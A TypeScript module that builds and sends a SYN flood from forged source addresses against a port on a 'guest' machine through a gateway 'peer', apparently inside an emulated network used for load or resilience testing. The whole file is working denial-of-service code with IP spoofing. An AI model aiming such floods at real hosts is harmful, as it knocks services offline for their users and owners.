/** A SYN flood from forged addresses, at a rate that only frames made beforehand reach: so many a second, or as many as one says. */
import { ETHERTYPE_IPV4, encodeEthernet } from "./frame.ts";
import { PROTOCOL_TCP, encodeIpv4 } from "./ipv4.ts";
import type { Peer } from "./peer.ts";
import { SYN, encodeTcp } from "./tcp.ts";

const FRAMES = 1 << 15;
/** Most that go at once, so that what else the peer does is not kept waiting. */
const BURST = 200;
/** 172.16.0.0: behind the gateway, which is the peer. */
const SOURCES = 0xac100000;
/** Of an IPv4 packet in an Ethernet frame. */
const DESTINATION_ADDRESS = 30;

export class Flood {
  private readonly frames: Buffer[] = [];
  private readonly start: number;
  private readonly timer: NodeJS.Timeout | undefined;
  private readonly restore: () => void;
  sent = 0;
  private ended: number | undefined;

  /** Begins at once; without a rate with the first `send`. The peer must have resolved the guest. */
  constructor(
    private readonly peer: Peer,
    port: number,
    perSecond?: number,
  ) {
    const destination = peer.macOf(peer.guest);
    for (let index = 0; index < FRAMES; index++) {
      const source = (SOURCES + ((index * 2654435761) >>> 12)) >>> 0;
      const payload = encodeTcp(source, peer.guest, {
        sourcePort: 1024 + (index % 60000),
        destinationPort: port,
        sequence: (index * 7919) >>> 0,
        acknowledgement: 0,
        flags: SYN,
        window: 65535,
        options: { mss: 1460 },
        payload: Buffer.alloc(0),
      });
      const packet = encodeIpv4({ source, destination: peer.guest, protocol: PROTOCOL_TCP, payload });
      this.frames.push(
        encodeEthernet({ destination, source: peer.mac, type: ETHERTYPE_IPV4, payload: packet }),
      );
    }
    // What the guest answers is not looked at: that would cost more than the flood itself.
    const { onFrame } = peer.wire;
    this.restore = () => {
      peer.wire.onFrame = onFrame;
    };
    peer.wire.onFrame = (frame) => {
      if (frame[DESTINATION_ADDRESS] !== SOURCES >>> 24) onFrame(frame);
    };
    this.start = performance.now();
    if (perSecond !== undefined) this.timer = setInterval(() => this.sendDue(perSecond), 1);
  }

  get seconds(): number {
    return ((this.ended ?? performance.now()) - this.start) / 1000;
  }

  /** SYNs a second that were sent. */
  get rate(): number {
    return this.sent / this.seconds;
  }

  stop(): void {
    this.restore();
    this.ended ??= performance.now();
    clearInterval(this.timer);
  }

  /** The next ones. */
  send(count: number): void {
    for (let n = 0; n < count; n++) this.peer.wire.send(this.frames[this.sent++ % FRAMES] as Buffer);
  }

  private sendDue(perSecond: number): void {
    this.send(Math.min(BURST, Math.floor(this.seconds * perSecond) - this.sent));
  }
}
